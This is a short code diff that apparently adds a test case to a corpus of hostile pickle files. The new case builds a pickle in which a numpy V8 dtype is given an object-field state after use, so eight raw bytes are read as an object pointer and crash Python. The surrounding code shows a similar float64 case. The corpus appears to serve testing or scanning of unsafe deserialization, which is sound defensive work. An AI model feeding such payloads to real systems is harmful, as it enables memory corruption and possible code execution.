@@ -615,6 +615,19 @@ def _():
             + pk.get(50) + state2 + pk.BUILD + pk.APPENDS + pk.STOP)
 
 
+@attack("dtype_state_after_use.pkl", "dangerous", "state",
+        "a V8 dtype (numpy.dtype without its BUILD yet) used for an array of 8 raw bytes, then "
+        "given a state with an object field: numpy reads the array's bytes as an object "
+        "pointer (Python crashes)", check="loads")
+def _():
+    d = pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE) + pk.put(60)
+    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
+    state = pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("a")), objfields, pk.integer(8),
+                   pk.integer(1), pk.integer(27))
+    return (pk.proto(2) + pk.EMPTY_LIST + pk.MARK + reconstruct_array(d, 1, pk.binbytes(b"\x41" * 8))
+            + pk.get(60) + state + pk.BUILD + pk.APPENDS + pk.STOP)
+
+
 @attack("dtype_fields_on_float64.pkl", "dangerous", "state",
         "a float64 dtype given fields (an object at offset 0): numpy takes them, and the "
         "array's 8 raw bytes read as field 'a' are an object pointer", check="loads",
